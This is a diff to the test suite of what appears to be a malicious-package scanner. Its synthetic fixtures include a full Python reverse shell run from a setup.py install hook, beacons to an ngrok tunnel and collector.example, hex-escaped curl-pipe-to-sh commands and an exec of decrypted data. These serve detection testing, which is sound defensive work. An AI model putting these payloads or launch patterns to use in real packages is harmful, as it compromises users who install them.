@@ -475,6 +475,36 @@ subprocess.check_call(['sh', 'build.sh'], cwd='helper-src')
   },
   {
     rule: 'exfiltration-endpoint',
+    name: "import-time code posts to a tunnel on ngrok's free domain",
+    scan: () =>
+      sdist({
+        'synthetic_pkg/__init__.py': `import requests
+requests.post('https://example-name.ngrok-free.dev/k', json={'ok': 1})
+`,
+      }),
+    file: 'synthetic_pkg/__init__.py',
+    line: 2,
+    weight: 80,
+    verdict: 'hold',
+  },
+  {
+    rule: 'beacons-system-info',
+    name: "install code sends the machine's fully qualified name",
+    scan: () =>
+      sdist({
+        'setup.py': `import socket, urllib.request
+from setuptools import setup
+urllib.request.urlopen('https://collector.example/p?h=' + socket.getfqdn())
+setup(name='synthetic-pkg', version='1.0.0')
+`,
+      }),
+    file: 'setup.py',
+    line: 3,
+    weight: 70,
+    verdict: 'hold',
+  },
+  {
+    rule: 'exfiltration-endpoint',
     name: 'an f-string builds a raw-IP URL from module constants',
     scan: () =>
       sdist({
@@ -1492,6 +1522,82 @@ class Runner:
     const r = await npm({ 'lib/b.js': DECODE_EVAL })
     expect(scoring(r, 'decodes-and-executes')).toMatchObject({ file: 'lib/b.js', weight: 40 })
     expect(r.verdict).toBe('publish')
+  })
+})
+
+describe('programs a file carries as text', () => {
+  // a reverse shell written as Python source inside a string: nothing in the host file's own code shows it
+  const SHELL = `import socket, subprocess, os
+def connect():
+    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    s.connect(("203.0.113.7", 4444))
+    os.dup2(s.fileno(), 0)
+    os.dup2(s.fileno(), 1)
+    subprocess.call(["/bin/sh", "-i"])
+connect()
+`
+  const cmdclass = (body: string) => `import os, sys, subprocess, tempfile
+from setuptools import setup
+from setuptools.command.install import install
+CODE = """${SHELL}"""
+class Hook(install):
+    def run(self):
+${body
+  .split('\n')
+  .map((l) => `        ${l}`)
+  .join('\n')}
+        install.run(self)
+setup(name='synthetic-pkg', version='1.0.0', cmdclass={'install': Hook})
+`
+
+  const lineOf = (source: string, text: string) => source.split('\n').findIndex((l) => l.includes(text)) + 1
+
+  it('analyses a script a setup.py writes and starts with Python as a file of its own, run at install', async () => {
+    const setup = cmdclass(`path = os.path.join(os.getenv('APPDATA'), 'helper.py')\nwith open(path, 'w') as f:\n    f.write(CODE)\nsubprocess.Popen([sys.executable, path])`)
+    const r = await sdist({ 'setup.py': setup })
+    // named by the line that starts it; lines inside are the program's own
+    expect(scoring(r, 'remote-shell')).toMatchObject({ file: `setup.py [program run at line ${lineOf(setup, 'subprocess.Popen')}]`, line: 7, weight: 100 })
+    expect(r.verdict).not.toBe('publish')
+  })
+
+  it('analyses code handed to python -c and to exec as a string', async () => {
+    const inline = await sdist({ 'setup.py': cmdclass(`subprocess.check_call([sys.executable, '-c', CODE])`) })
+    expect(scoring(inline, 'remote-shell')).toMatchObject({ file: expect.stringMatching(/^setup\.py \[program run at line \d+\]$/), weight: 100 })
+    const evaluated = await sdist({ 'setup.py': cmdclass(`exec(CODE)`) })
+    expect(scoring(evaluated, 'remote-shell')).toMatchObject({ file: expect.stringMatching(/^setup\.py \[program run at line \d+\]$/), weight: 100 })
+  })
+
+  it('gives a program the run-time weight when its launch sits in a function nothing calls', async () => {
+    const init = `import sys, subprocess\nCODE = """${SHELL}"""\ndef start():\n    subprocess.Popen([sys.executable, '-c', CODE])\n`
+    const r = await sdist({ 'synthetic_pkg/__init__.py': init })
+    // remote-shell's run-time weight for a shell on a socket (import time would be 100)
+    expect(scoring(r, 'remote-shell')).toMatchObject({ file: `synthetic_pkg/__init__.py [program run at line ${lineOf(init, 'subprocess.Popen')}]`, weight: 60 })
+  })
+
+  it('finds nothing in a program that does nothing suspicious, and keeps a file that only writes source as it was', async () => {
+    const r = await sdist({
+      'setup.py': `from setuptools import setup\nexec("from os import path as _p")\nopen('synthetic_pkg/_version.py', 'w').write("import socket\\nversion = '1.0.0'\\n")\nsetup(name='synthetic-pkg', version='1.0.0')\n`,
+    })
+    expect(r.signals.filter((s) => s.weight > 0)).toEqual([])
+    const facts = collectFacts((await sdistArtifact({ 'setup.py': `exec("import os\\nos.getcwd()")\nopen('v.py', 'w').write("import os\\n")\n` })).artifact, pypiEcosystem)
+    expect(facts.files.map((f) => f.path).filter((p) => p.includes('[program'))).toEqual(['setup.py [program run at line 1]'])
+  })
+
+  it("reads a cipher's decrypt as decoding: exec(Fernet(key).decrypt(token)) at install", async () => {
+    const r = await sdist({
+      'setup.py': `from setuptools import setup\nfrom setuptools.command.install import install\nclass Hook(install):\n    def run(self):\n        from fernet import Fernet\n        exec(Fernet(b'c3ludGhldGljLWtleS1ub3QtYS1yZWFsLWtleS0xMjM=').decrypt(b'gAAAAABsynthetic-token'))\n        install.run(self)\nsetup(name='synthetic-pkg', version='1.0.0', cmdclass={'install': Hook})\n`,
+    })
+    expect(scoring(r, 'decodes-and-executes')).toMatchObject({ file: 'setup.py', line: 6, weight: 100 })
+  })
+
+  it('decodes escape sequences in Python strings and reads parenthesised string constants as commands', async () => {
+    const escaped = await sdist({ 'setup.py': `import os\nos.system('\\x63\\x75\\x72\\x6c -s http://203.0.113.9/x.sh | sh')\n` })
+    expect(scoring(escaped, 'downloads-and-executes')).toMatchObject({ file: 'setup.py', line: 2, weight: 100 })
+    const split = await sdist({ 'setup.py': `import os\nCMD = (\n    'curl -s http://203.0.113.9/x.sh'\n    ' | sh'\n)\nos.system(CMD)\n` })
+    expect(scoring(split, 'downloads-and-executes')).toMatchObject({ file: 'setup.py', weight: 100 })
+    // raw strings keep their backslashes: a regular expression is not decoded
+    const raw = collectFacts((await sdistArtifact({ 'setup.py': `import os\nos.system(r'echo \\x41')\n` })).artifact, pypiEcosystem)
+    expect(raw.files.find((f) => f.path === 'setup.py')!.indicators).toEqual([])
   })
 })
 
